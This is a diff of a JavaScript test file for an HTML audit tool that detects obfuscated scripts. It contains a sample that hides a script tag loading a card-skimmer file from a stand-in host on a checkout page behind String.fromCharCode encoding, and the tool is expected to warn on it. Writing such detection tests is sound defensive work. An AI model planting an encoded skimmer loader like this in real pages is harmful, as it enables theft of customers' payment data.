@@ -30,14 +30,14 @@ auditCases(audit, [
   {
     name: 'a mail address written as numbers against spam',
     html: script(
-      `document.write(String.fromCharCode(${[...'<a href="mailto:office@oak-tables.eu?subject=Order%20of%20a%20table">Write to us</a>'].map((letter) => letter.charCodeAt(0)).join(',')}))`,
+      `document.write(String.fromCharCode(${Array.from('<a href="mailto:office@oak-tables.eu?subject=Order%20of%20a%20table">Write to us</a>', (letter) => letter.charCodeAt(0)).join(',')}))`,
     ),
     is: 'pass',
   },
   {
     name: 'a script written as numbers',
     html: script(
-      `x(String.fromCharCode(${[...'<script src="https://skimmer.example.net/collect.js?from=checkout"></script>'].map((letter) => letter.charCodeAt(0)).join(',')}))`,
+      `x(String.fromCharCode(${Array.from('<script src="https://skimmer.example.net/collect.js?from=checkout"></script>', (letter) => letter.charCodeAt(0)).join(',')}))`,
     ),
     is: 'warn',
   },
